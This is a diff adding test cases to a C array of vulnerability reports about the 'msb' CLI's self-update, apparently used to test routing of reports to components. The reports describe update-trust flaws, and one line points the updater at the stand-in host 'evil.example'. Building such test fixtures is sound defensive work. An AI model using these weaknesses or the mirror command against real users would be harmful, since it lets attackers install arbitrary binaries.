@@ -3598,6 +3598,21 @@ static const ComponentCase weak_cases[] = {
 	  "failed call to the cloud API writes the Authorization header into our logs.\n\n"
 	  "  from microsandbox import CloudSandbox\n",
 	  "python_sdk", "patterns" },
+	/* (1399) the updater built into the CLI is the runtime's code; the
+	 * bucket it downloads from is the release side's */
+	{ "msb self-update trusts a mirror's checksum file",
+	  "msb self-update reads the expected hash from the same mirror it downloads the archive\n"
+	  "from, so a hostile mirror ships any binary with a matching hash.\n\n"
+	  "  MSB_UPDATE_MIRROR=http://evil.example msb self-update\n",
+	  "core", "patterns" },
+	{ "La autoactualización no comprueba nada",
+	  "La autoactualización de msb descarga el binario por HTTP y lo instala sin comprobar la\n"
+	  "firma, así que cualquiera en la red instala su propio binario.\n",
+	  "core", "patterns" },
+	{ "Release bucket accepts anonymous uploads",
+	  "The bucket that msb self update downloads from accepts anonymous uploads, so anyone can\n"
+	  "replace msb-0.10.7-linux.tar.gz and its .sig for every user.\n",
+	  "release_infra", "patterns" },
 };
 
 static void
